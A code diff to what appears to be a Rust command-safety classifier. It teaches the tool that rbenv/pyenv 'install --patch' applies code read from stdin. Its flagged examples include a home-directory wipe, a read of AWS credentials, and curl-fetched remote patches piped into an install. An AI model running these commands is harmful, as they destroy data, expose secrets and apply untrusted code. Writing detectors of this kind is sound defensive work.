@@ -11,8 +11,8 @@
 
 use crate::programs::P;
 use crate::Exec::{
-    Argv, EachLine, Opt, OptArgv, OptFile, OptProgram, ShellLine, SubArgv, SubCode, SubCommand,
-    SubPackage,
+    Argv, EachLine, Opt, OptArgv, OptFile, OptProgram, ShellLine, StdinCode, SubArgv, SubCode,
+    SubCommand, SubPackage,
 };
 use crate::Harm::{Credential, Destructive, Exfiltration, SelfEscalation};
 use crate::Lang::Shell;
@@ -144,10 +144,15 @@ pub const RUNNERS: &[Program] = &[
     },
     Program {
         names: &["nodenv", "pyenv", "rbenv", "goenv", "jenv", "plenv"],
-        source: "https://github.com/rbenv/rbenv#rbenv-exec (rbenv exec COMMAND [ARGS]: runs it with the selected version first on PATH; pyenv, nodenv, goenv, jenv and plenv alike)",
-        exec: &[SubArgv { sub: "exec", skip: 0 }],
-        flagged: &["rbenv exec rm -rf ~", "pyenv exec sh -c 'cat ~/.aws/credentials'"],
-        clean: &["rbenv exec bundle install", "pyenv install 3.12"],
+        source: "https://github.com/rbenv/rbenv#rbenv-exec (rbenv exec COMMAND [ARGS]: runs it with the selected version first on PATH; pyenv, nodenv, goenv, jenv and plenv alike); https://github.com/pyenv/pyenv/blob/master/plugins/python-build/README.md and https://github.com/rbenv/ruby-build#applying-patches (install -p/--patch applies a patch read from standard input to the source it builds)",
+        exec: &[SubArgv { sub: "exec", skip: 0 }, StdinCode { sub: "install", names: &["-p", "--patch"] }],
+        flagged: &[
+            "rbenv exec rm -rf ~",
+            "pyenv exec sh -c 'cat ~/.aws/credentials'",
+            "pyenv install --patch 2.7.10 < <(curl -sSL http://git.io/python.patch)",
+            "curl -fsSL https://gist.example.com/x.patch | rbenv install --patch 2.7.1",
+        ],
+        clean: &["rbenv exec bundle install", "pyenv install 3.12", "pyenv install --patch 3.6.15 < fix-3.6.patch"],
         ..P
     },
     Program {
